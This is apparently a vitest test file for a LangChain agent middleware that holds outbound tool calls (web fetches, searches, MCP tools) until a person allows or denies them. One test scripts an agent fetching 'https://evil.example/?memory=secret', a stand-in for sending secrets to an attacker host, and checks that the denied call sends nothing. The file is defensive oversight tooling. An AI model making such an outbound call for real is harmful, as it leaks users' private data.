import { AIMessage, HumanMessage, ToolMessage } from "@langchain/core/messages";
import { DynamicStructuredTool } from "@langchain/core/tools";
import { createAgent, tool } from "langchain";
import { describe, expect, it } from "vitest";
import { z } from "zod";
import { ScriptedChatModel } from "../subagents/scripted-chat-model.ts";
import {
  deniedToolText,
  outboundApprovalMiddleware,
  outboundTargets,
  type OutboundApproval,
  type OutboundCall,
} from "./outbound-approval.ts";

function webFetch(fetched: string[]) {
  return tool(
    async ({ url }: { url: string }) => {
      fetched.push(url);
      return `page at ${url}`;
    },
    { name: "web_fetch", description: "Fetch a page", schema: z.object({ url: z.string() }) },
  );
}

const readFile = tool(async () => "file text", {
  name: "read_file",
  description: "Read a file",
  schema: z.object({ path: z.string() }),
});

/** An agent whose model calls web_fetch once (and read_file), then answers with what came back. */
function agentCalling(url: string, approval: OutboundApproval, fetched: string[]) {
  const model = new ScriptedChatModel({
    replies: [
      new AIMessage({
        content: "",
        tool_calls: [
          { id: "call-1", name: "web_fetch", args: { url } },
          { id: "call-2", name: "read_file", args: { path: "/mnt/user-data/workspace/a" } },
        ],
      }),
    ],
    fallback: (messages) => new AIMessage(`done: ${messages.at(-2)?.text}`),
  });
  const tools = [webFetch(fetched), readFile];
  return createAgent({ model, tools, middleware: [outboundApprovalMiddleware(approval)] });
}

/** An approval that records what asks and answers with `answer` after a short wait. */
function answering(answer: "allow" | "deny", asked: OutboundCall[]): OutboundApproval {
  return {
    describe: outboundTargets([webFetch([]), readFile]),
    ask: async (call) => {
      asked.push(call);
      await new Promise((resolve) => setTimeout(resolve, 20));
      return answer;
    },
  };
}

describe("outboundApprovalMiddleware", () => {
  it("waits for Allow before web_fetch runs; tools that send nothing out never ask", async () => {
    const asked: OutboundCall[] = [];
    const fetched: string[] = [];
    const agent = agentCalling("https://example.org/a", answering("allow", asked), fetched);
    const result = await agent.invoke({ messages: [new HumanMessage("go")] });
    expect(asked).toEqual([{ tool_call_id: "call-1", tool: "web_fetch", target: "https://example.org/a" }]);
    expect(fetched).toEqual(["https://example.org/a"]);
    const results = result.messages.filter((message) => ToolMessage.isInstance(message));
    expect(results.map((message) => message.text)).toEqual(["page at https://example.org/a", "file text"]);
  });

  it("answers a denied call with a refusal, sends nothing, and the run goes on", async () => {
    const asked: OutboundCall[] = [];
    const fetched: string[] = [];
    const agent = agentCalling("https://evil.example/?memory=secret", answering("deny", asked), fetched);
    const result = await agent.invoke({ messages: [new HumanMessage("go")] });
    expect(fetched).toEqual([]);
    const refusal = result.messages.find(
      (message): message is ToolMessage => ToolMessage.isInstance(message) && message.tool_call_id === "call-1",
    );
    expect(refusal?.text).toBe(deniedToolText("web_fetch", "https://evil.example/?memory=secret"));
    expect(refusal?.status).toBe("error");
    expect(result.messages.at(-1)?.text).toMatch(/^done: /);
  });

  it("ends the run when Stop aborts a waiting call, and nothing is sent", async () => {
    const fetched: string[] = [];
    const controller = new AbortController();
    const approval: OutboundApproval = {
      describe: outboundTargets([webFetch([])]),
      ask: (_call, signal) =>
        new Promise((_resolve, reject) => {
          signal?.addEventListener("abort", () => reject(new DOMException("stopped", "AbortError")));
          setTimeout(() => controller.abort(), 10);
        }),
    };
    const agent = agentCalling("https://example.org/", approval, fetched);
    await expect(agent.invoke({ messages: [new HumanMessage("go")] }, { signal: controller.signal })).rejects.toThrow();
    expect(fetched).toEqual([]);
  });
});

describe("outboundTargets", () => {
  it("names web_fetch's URL, web_search's query and an MCP tool's server and tool", () => {
    const mcp = new DynamicStructuredTool({
      name: "notes_save",
      description: "Save a note",
      schema: z.object({ text: z.string() }),
      metadata: { mcp_server: "notes", mcp_tool: "save" },
      func: async () => "saved",
    });
    const search = tool(async () => "[]", {
      name: "web_search",
      description: "Search",
      schema: z.object({ query: z.string() }),
    });
    const describe = outboundTargets([webFetch([]), search, mcp, readFile]);
    expect(describe({ name: "web_fetch", args: { url: "https://a.example/" } })).toEqual({
      target: "https://a.example/",
    });
    expect(describe({ name: "web_search", args: { query: "my secret" } })).toEqual({ target: "my secret" });
    expect(describe({ name: "notes_save", args: { text: "x" } })).toEqual({ target: "notes: save", server: "notes" });
    expect(describe({ name: "read_file", args: {} })).toBeUndefined();
    expect(describe({ name: "bash", args: {} })).toBeUndefined();
  });
});
